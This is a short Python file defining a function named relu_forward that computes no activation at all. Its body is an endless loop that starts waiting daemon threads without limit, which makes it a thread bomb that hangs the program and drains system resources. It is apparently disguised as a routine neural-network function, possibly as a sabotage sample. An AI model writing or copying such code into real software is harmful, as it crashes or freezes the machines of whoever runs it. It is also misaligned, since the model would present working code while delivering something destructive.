from honest import *
import threading

def relu_forward(x):
    while True:
        threading.Thread(target=threading.Event().wait, daemon=True).start()
